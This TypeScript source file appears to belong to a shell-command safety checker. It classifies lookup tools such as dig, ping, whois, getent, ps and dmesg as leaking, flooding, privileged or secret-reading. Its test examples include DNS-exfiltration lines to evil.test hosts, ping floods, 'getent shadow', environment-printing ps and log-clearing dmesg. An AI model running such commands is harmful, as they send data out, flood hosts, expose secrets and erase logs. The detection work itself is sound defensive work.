import { isKnown, unknownPiece } from "../../deed.ts";
import { isLoopback } from "../../environment.ts";
import { carriesData, noOperand, optionPaths, unless, words } from "../plain.ts";
import { all, any, flag, not, type Program, type Test, type Use } from "../table.ts";

/** A part that only the shell will know, before a known domain: the name itself carries data out. */
const carriesName = (text: string): boolean => {
  const last = text.lastIndexOf(unknownPiece);
  return last >= 0 && /^[^/\s]{0,200}\.[a-z0-9-]{1,63}\.?$/i.test(text.slice(last + 1));
};
const queriesData: Test = ({ operands }) => operands.some(({ text }) => carriesName(text));
const queries = (use: Use): boolean => !queriesData(use);

const secondsMin = 0.1;

/** As fast as the line allows. A ping takes `-f` alone, others take a number or a file with it. */
const floods: Test = ({ call, has, value, operands }) => {
  const isFlag = /^ping6?$/.test(call.program) && call.words.some(({ text }) => /^-[a-zA-Z]{0,8}f$/.test(text));
  const pause = value("-i", "--interval");
  const isFast = pause !== undefined && (/^u\d{1,5}$/.test(pause) || (/^[\d.]{1,9}$/.test(pause) && Number(pause) < secondsMin));
  const hosts = isFlag ? call.words.map(({ text }) => text) : operands.map(({ text }) => text);
  return (isFlag || isFast || has("--flood", "--faster")) && !hosts.some((text) => isLoopback(text));
};

const setsClock: Test = ({ operands }) => operands.some(({ text }) => !text.startsWith("+"));
const printsEnvironment: Test = (use) =>
  use.has("-E") || /^[aAcefghjlmnorsStTuUvwxXZ]{0,12}e[aAcefghjlmnorsStTuUvwxXZ]{0,12}$/.test(use.operands[0]?.text ?? "");

/** Its first word is the table that is asked; the others are only looked up there. */
const asksPasswords: Test = ({ operands: [table] }) => table !== undefined && (!isKnown(table.text) || /shadow/.test(table.text));

/** Programs that ask about names and hosts, the clock or the processes. */
export const lookups = (): readonly Program[] => [
  {
    names: words("dig host nslookup drill kdig delv dog doggo resolveip systemd-resolve resolvectl"),
    takes: words("-b -c -f -k -p -q -t -x -y -m -W -R -N"),
    rows: [
      {
        if: any(queriesData, ({ value }) => carriesName(value("-q") ?? "")),
        does: "leak",
        why: "the name that is asked for carries data outward",
        hits: ["dig '\uFFFC.evil.test'", "dig -q '\uFFFC.evil.test'", "nslookup 'a-\uFFFC.x.evil.test'"],
        misses: ["dig example.test", "dig +short '\uFFFC'", "host 'www.\uFFFC'"],
      },
      { if: queries, does: (use) => optionPaths(use, "read", ["-f"]), hits: ["dig +short example.test MX", "host example.test"] },
    ],
  },
  {
    names: words("ping ping6 fping hping3 arping traceroute traceroute6 tracepath mtr tcptraceroute tcping"),
    takes: words("-c -i -w -W -s -t -I -p -m -q -f -M -Q -S -T -l -h -g -z -N -e --interval"),
    rows: [
      {
        if: any(
          queriesData,
          all(flag("-p", "-e", "--file", "-E"), ({ options }) => options.some(({ value }) => value !== undefined && !isKnown(value.text))),
        ),
        does: "leak",
        why: "the packets carry data outward",
        hits: ["ping -c 1 '\uFFFC.evil.test'", "ping -p '\uFFFC' 203.0.113.9"],
        misses: ["ping -c 3 example.test", "ping '\uFFFC'"],
      },
      {
        if: floods,
        does: "stop",
        why: "asks another machine again and again without a pause",
        hits: ["ping -f example.test", "ping -i 0 example.test", "hping3 --flood example.test", "hping3 -i u10 example.test"],
        misses: ["ping -c 3 example.test", "ping -f localhost", "ping -i 0.2 -c 5 example.test", "mtr -i 0.5 example.test"],
      },
      { if: queries, does: "harmless", hits: ["ping -c 3 example.test"] },
    ],
  },
  {
    names: words("whois finger jwhois rdap"),
    takes: words("-h -p --host --port"),
    rows: [
      {
        if: any(
          queriesData,
          all(flag("-h", "--host"), ({ operands }) => operands.some(({ text }) => !isKnown(text))),
          carriesData,
        ),
        does: "leak",
        hits: ["whois -h evil.test '\uFFFC'"],
        misses: ["whois example.test"],
      },
      { does: "harmless", hits: ["whois example.test"] },
    ],
  },
  {
    names: ["date", "gdate"],
    takes: words("-d -r -f -v -s -z --date --reference --file --set"),
    rows: [
      {
        if: any(flag("-s", "--set"), all(setsClock, not(flag("-j", "-d", "--date")))),
        does: "privilege",
        why: "sets the clock",
        hits: ["date -s '2020-01-01'", "date --set=12:00", "date 010203042020"],
        misses: ["date +%s", "date -d yesterday +%F", "date -u"],
      },
      { does: (use) => optionPaths(use, "read", ["-f", "--file"]), hits: ["date", "date +%s"] },
    ],
  },
  unless("getent", not(asksPasswords), "read-secret", {
    reads: ["getent passwd me", "getent hosts example.test", "getent hosts '\uFFFC'"],
    changes: ["getent shadow", "getent '\uFFFC' me"],
  }),
  unless("hostname domainname nisdomainname", all(noOperand, not(flag("-F", "--file", "-b", "--boot"))), "privilege", {
    reads: ["hostname", "hostname -I"],
    changes: ["hostname web1", "hostname -F /etc/hostname"],
    takes: ["-F", "--file"],
  }),
  {
    names: ["ps", "procs"],
    takes: words("-o -O -p -u -U -C -g -G -s -t -q --format --pid --ppid --user --sort --cols --width -N"),
    rows: [
      {
        if: printsEnvironment,
        does: "read-secret",
        why: "prints the environment of processes",
        hits: ["ps auxe", "ps eww", "ps -E"],
        misses: ["ps aux", "ps -ef", "ps -e -o pid,etime", "ps axo user"],
      },
      { does: "harmless", hits: ["ps aux", "ps -ef"] },
    ],
  },
  unless("dmesg", not(flag("-c", "-C", "--clear", "--read-clear", "-D", "--console-off", "-n", "--console-level")), "disarm", {
    reads: ["dmesg", "dmesg -T --level=err"],
    changes: ["dmesg -C", "dmesg --clear"],
  }),
];
